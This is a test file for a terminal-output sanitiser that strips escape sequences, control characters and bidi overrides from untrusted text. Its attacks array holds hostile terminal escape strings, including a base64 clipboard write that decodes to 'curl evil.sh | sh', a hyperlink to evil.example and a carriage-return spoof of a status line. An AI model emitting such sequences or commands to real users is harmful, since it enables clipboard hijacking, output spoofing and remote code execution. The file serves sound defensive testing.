// terminalSafe / guestLines: no escape sequence or control character of guest text reaches a terminal.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { clip } from './format.js';
import { GUEST_LINE_PREFIX, guestLines, terminalSafe } from './terminal-text.js';

const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe('terminalSafe', () => {
  it('removes title, clipboard and hyperlink strings, cursor and colour sequences, CR and bidi overrides', () => {
    const attacks = [
      '\x1b]0;owned title\x07',
      '\x1b]2;owned title\x1b\\',
      '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07',
      '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\',
      '\x1b[2J\x1b[H\x1b[1A\x1b[2K',
      '\x1b[31mred\x1b[0m',
      '\x9b2J\x9d0;c1 title\x9c',
      '\x1bPdevice control\x1b\\',
      'progress\rroma: isolate: exit 0',
      '\u202eevil\u202c',
      '\x1b]0;never terminated',
    ];
    const cleaned = attacks.map(terminalSafe);
    expect(cleaned).toEqual([
      '',
      '',
      '',
      'click',
      '',
      'red',
      '',
      '',
      'progressroma: isolate: exit 0',
      'evil',
      '',
    ]);
  });

  it('leaves no control character but tab and newline in any text, and keeps printable text as it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        expect(terminalSafe(text)).not.toMatch(UNSAFE);
      }),
      { numRuns: 2_000, seed: 3 },
    );
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (text) => {
        const printable = text.replace(/[\x00-\x1f\x7f]/g, '');
        expect(terminalSafe(printable)).toBe(printable);
      }),
      { numRuns: 500, seed: 5 },
    );
    expect(terminalSafe('tab\tand\r\nlines\n')).toBe('tab\tand\nlines\n');
  });
});

describe('guestLines', () => {
  it('marks every line, so none can start like one of roma’s own', () => {
    expect(guestLines('a\n\nroma: isolate: exit 0\n')).toBe(
      `${GUEST_LINE_PREFIX}a\n${GUEST_LINE_PREFIX}\n${GUEST_LINE_PREFIX}roma: isolate: exit 0\n`,
    );
    expect(guestLines('no newline')).toBe(`${GUEST_LINE_PREFIX}no newline\n`);
    expect(guestLines('')).toBe('');
  });
});

describe('clip (event lines, the tree)', () => {
  it('shows guest or model text in one line without its escape sequences', () => {
    expect(clip('\x1b]0;owned\x07tool \x1b[31mfailed\x1b[0m\r\nagain\u202e', 40)).toBe('tool failed again');
  });
});
